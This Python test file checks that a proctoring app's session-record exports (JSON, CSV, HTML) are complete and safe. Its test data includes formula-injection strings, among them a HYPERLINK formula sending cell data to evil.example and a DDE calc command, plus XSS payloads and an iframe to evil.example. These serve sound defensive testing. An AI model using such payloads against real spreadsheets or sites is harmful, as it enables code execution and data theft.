"""A session's record over REST: whole as JSON, safe in a spreadsheet, safe and complete as a page."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from html.parser import HTMLParser
from typing import Any

import aiohttp
import orjson
import pytest
from bson import ObjectId

from handlers.record_csv import csv_of
from handlers.record_html import POLICY, html_of
from models import record as record_module
from models import sealing
from models.chain import fingerprint
from models.fields import now
from models.store import Store
from server.verify import verify
from tests.clients import uuid
from tests.conftest import Connect, Organisation, make_user
from tests.test_lifecycle import joined, ordered
from tests.test_organisations import UNKNOWN
from tests.test_proctoring_rest import PATH

NASTY = [
    '=HYPERLINK("http://evil.example?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "=cmd|' /C calc'!A0",
    '","=1+1","',
    "a\nb\r\nc\u2028d",
    "<script>alert(1)</script>",
    "</td></table><img src=x onerror=alert(1)>",
    "<!-- --><style>*{display:none}</style>",
    "\"'><a href='javascript:alert(1)'>x</a>",
    "&lt;b&gt; &amp; &#60;",
    "\u202etxt.exe",
    "試験 🎓 é",
    "\x00\x07\x1b[31mred",
]


@pytest.fixture
async def session(school: Organisation, connect: Connect, store: Store) -> Any:
    """One that is over, in which both sides wrote what one should not; warned, given time, and reviewed."""
    student = await connect("/exam", school.student.token, uuid())
    started = await student.ok("start", {"examId": school.exam_id})
    session_id = started["session"]["id"]
    console = await joined(connect, school.proctor, school.exam_id)
    for seq, text in enumerate(NASTY, 1):
        await student.ok("chat", {"seq": seq, "text": text})
    await ordered(console, school.exam_id, "extend", session_id, minutes=10, reason="<b>A power</b> =cut")
    chat = {"requestId": uuid(), "examId": school.exam_id, "sessionId": session_id, "text": "=Be <i>quiet</i>"}
    await console.ok("chat", chat)
    await student.ok("end")
    review = {"requestId": uuid(), "sessionId": session_id, "verdict": "SUSPICIOUS", "note": "+ See <b>chat</b>"}
    await console.ok("review", review)
    return await school.admin.api.ok("GET", f"{PATH}/{session_id}")


async def seal(store: Store, session: Any) -> None:
    await store.seals.seal(ObjectId(session["id"]))


async def test_a_record_is_all_of_a_session(school: Organisation, store: Store, session: Any) -> None:
    await seal(store, session)
    path = f"{PATH}/{session['id']}"
    answer = await school.proctor.api.call("GET", f"{path}/record")
    assert answer.headers["Cache-Control"] == "no-store"
    record = answer.body
    assert record["exam"] == {"id": school.exam_id, "title": "History"}
    assert record["user"] == {"id": school.student.id, "name": "student"}
    assert record["organisation"] == {"id": school.id, "name": "school"}
    assert record["session"] == {name: session[name] for name in record["session"]}
    assert (record["verdict"], record["note"]) == ("SUSPICIOUS", None)
    assert record["counts"] == session["counts"]
    log = await school.admin.api.ok("GET", f"{path}/activity?limit=500")
    own = ("salt", "dataHash", "link")
    assert [{name: one[name] for name in one if name not in own} for one in record["activities"]] == log
    assert [one["data"]["text"] for one in log if one["type"] == "chat"] == [*NASTY, "=Be <i>quiet</i>"]
    assert record["session"]["timeLedger"][0]["reason"] == "<b>A power</b> =cut"
    assert len(verify(orjson.dumps(record), store.seals.public_key)) > 0
    assert await school.admin.api.ok("GET", f"{path}/record") == record


async def test_a_record_says_when_it_will_be_sealed(
    school: Organisation, store: Store, session: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = f"{PATH}/{session['id']}/record"
    record = await school.admin.api.ok("GET", path)
    assert record["seals"] == []
    day = timedelta(hours=24)
    ended = (await store.sessions.by_id(ObjectId(session["id"])))["endTime"]
    assert record["note"] == f"Will be sealed after {(ended + day).isoformat('T', 'milliseconds')[:23]}Z."
    store.seals._due.clear()  # as where a crash has let it be forgotten
    for module in (record_module, sealing):
        monkeypatch.setattr(module, "now", lambda: now() + day)
    assert (await school.admin.api.ok("GET", path))["note"] == "Will be sealed within minutes."
    await store.seals.sweep()
    record = await school.admin.api.ok("GET", path)
    assert (record["note"], len(record["seals"])) == (None, 1)


async def test_a_sealed_record_keeps_the_names_of_its_time(school: Organisation, store: Store, session: Any) -> None:
    await seal(store, session)
    await school.admin.api.ok("PUT", f"/routes/users/{school.student.id}", {"name": "Renamed"})
    await school.admin.api.ok("PUT", f"/routes/exams/{school.exam_id}", {"title": "Retitled"})
    await school.admin.api.ok("PUT", f"/routes/organisations/{school.id}", {"name": "Moved"})
    record = await school.admin.api.ok("GET", f"{PATH}/{session['id']}/record")
    named = (record["user"]["name"], record["exam"]["title"], record["organisation"]["name"])
    assert named == ("student", "History", "school")
    verify(orjson.dumps(record))


async def test_who_sees_the_activity_sees_the_record_and_nobody_else(
    school: Organisation, college: Organisation, session: Any
) -> None:
    unassigned = await make_user(school.admin.api, school.id, "PROCTOR", "unassigned@school.example.com")
    for ending in ("record", "record.csv", "record.html"):
        path = f"{PATH}/{session['id']}/{ending}"
        for person, code in [
            (school.admin, None), (school.proctor, None), (unassigned, "not_found"), (college.admin, "not_found"),
            (college.proctor, "not_found"), (school.student, "forbidden"), (college.student, "forbidden"),
        ]:  # fmt: skip
            assert await person.api.code("GET", path) == code, (person.email, ending)
        assert await school.admin.api.code("GET", f"{PATH}/{UNKNOWN}/{ending}") == "not_found"
        assert await school.admin.api.code("GET", f"{PATH}/none/{ending}") == "not_found"
        assert await school.admin.api.code("GET", f"{path}?more=1") == "invalid_payload"


async def test_each_form_is_published_with_its_media_type(school: Organisation) -> None:
    for ending, media in (("", "application/json"), (".csv", "text/csv"), (".html", "text/html")):
        published = school.admin.api.contract["paths"][f"{PATH}/{{sessionId}}/record{ending}"]["get"]
        assert list(published["responses"]["200"]["content"]) == [media]


async def test_a_csv_has_a_line_an_activity_and_no_formula(school: Organisation, store: Store, session: Any) -> None:
    await seal(store, session)
    path = f"{PATH}/{session['id']}"
    answer = await school.admin.api.call("GET", f"{path}/record.csv")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"] == f'attachment; filename="record-{session["id"]}.csv"'
    record = await school.admin.api.ok("GET", f"{path}/record")
    text = answer.body.removeprefix("\ufeff")
    assert answer.body[0] == "\ufeff"
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(record["activities"])
    assert len(text.splitlines()) == len(rows) + 1
    for row, activity in zip(rows, record["activities"], strict=True):
        assert (row["offset"], row["type"]) == (str(activity["offset"]), activity["type"])
        assert orjson.loads(row["data"]) == activity["data"]
        assert (row["salt"], row["link"]) == (activity["salt"], activity["link"])
        for cell in row.values():
            visible = "".join(one for one in cell if one.isprintable() and not one.isspace())
            assert visible[:1] not in {*"=+-@|%", "\uff1d"}, cell
            assert cell[:1] not in {"\t", "\r", "\n"}
    texts = [row["text"] for row in rows if row["type"] == "chat"]
    assert texts[0] == "'" + NASTY[0]
    assert texts[1:4] == ["'+1+1", "'-2+3", "'@SUM(A1:A9)"]
    assert texts[11] == "a b c d"
    assert texts[18] == "試験 🎓 é"


class Page(HTMLParser):
    """What a browser would make of it: elements, attributes, text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.rows: list[list[str]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag == "tr":
            self.rows.append([])
        elif tag in ("td", "th"):
            self.rows[-1].append("")

    def handle_data(self, data: str) -> None:
        self.text += data
        if self.rows and self.rows[-1]:
            self.rows[-1][-1] += data


async def test_a_page_shows_all_and_runs_nothing(
    school: Organisation, store: Store, session: Any, http: aiohttp.ClientSession
) -> None:
    await seal(store, session)
    path = f"{PATH}/{session['id']}"
    headers = {"Authorization": f"Bearer {school.proctor.token}"}
    async with http.get(f"{school.admin.api.url}{path}/record.html", headers=headers) as response:
        assert response.headers["Content-Type"] == "text/html; charset=utf-8"
        assert response.headers["Content-Security-Policy"] == POLICY
        html = await response.text()
    assert POLICY.startswith("default-src 'none'; style-src 'sha256-")
    page = Page(html)
    known = {
        "html", "head", "meta", "title", "style", "body", "main", "h1", "h2", "p", "dl", "dt", "dd", "table", "thead",
        "tbody", "tr", "th", "td", "time", "code", "bdi", "br",
    }  # fmt: skip
    assert {tag for tag, _ in page.elements} <= known
    attributes = {name for _, attributes in page.elements for name in attributes}
    assert attributes == {"lang", "charset", "name", "content", "scope", "datetime", "aria-label"}
    assert html.count("<style>") == 1
    record = await school.admin.api.ok("GET", f"{path}/record")
    shown = [row for row in page.rows if row[0].isdigit()]
    assert [int(row[0]) for row in shown] == [one["offset"] for one in record["activities"]]
    chats = [row[-1] for row in shown if row[3] == "chat"]
    for text, cell in zip(NASTY[6:], chats[6:], strict=False):
        assert text.replace("\r\n", "\n") in cell.replace("\r\n", "\n"), cell
    for word in ("student", "History", "school", "SUBMITTED", "SUSPICIOUS", "<b>A power</b> =cut", "10.0"):
        assert word in page.text
    assert fingerprint(store.seals.public_key) in page.text
    assert record["seals"][0]["head"] in page.text


async def test_what_is_erased_or_not_sealed_is_shown_as_that(school: Organisation, store: Store, session: Any) -> None:
    path = f"{PATH}/{session['id']}"
    page = Page((await school.admin.api.call("GET", f"{path}/record.html")).body)
    assert "Not all of it is sealed. Will be sealed after " in page.text
    await seal(store, session)
    await store.seals.erase(ObjectId(session["id"]), {3})
    record = await school.admin.api.ok("GET", f"{path}/record")
    assert [one["offset"] for one in record["activities"] if one["data"] is None] == [3]
    page = Page(html_of(record))
    assert "Not all of it is sealed" not in page.text
    assert [row[-1].strip() for row in page.rows if row[0] == "3"] == ["erased"]
    rows = csv.DictReader(io.StringIO(csv_of(record)[1:], newline=""))
    assert [(row["text"], row["data"], row["salt"]) for row in rows if row["offset"] == "3"] == [("erased", "", "")]
    assert "Erased since" in verify(orjson.dumps(record))


async def test_a_name_that_is_markup_stays_text(store: Store, session: Any) -> None:
    record = await store.records.of(await store.sessions.by_id(ObjectId(session["id"])))
    record["user"]["name"] = "</title><script>alert(1)</script>"
    record["exam"]["title"] = "<svg onload=alert(1)>"
    record["organisation"]["name"] = '"><iframe src=//evil.example>'
    page = Page(html_of(record))
    assert not {"script", "svg", "iframe"} & {tag for tag, _ in page.elements}
    for name in (record["user"]["name"], record["exam"]["title"], record["organisation"]["name"]):
        assert name in page.text
    record |= {"exam": None, "organisation": None}
    assert "an exam that was deleted" in Page(html_of(record)).text
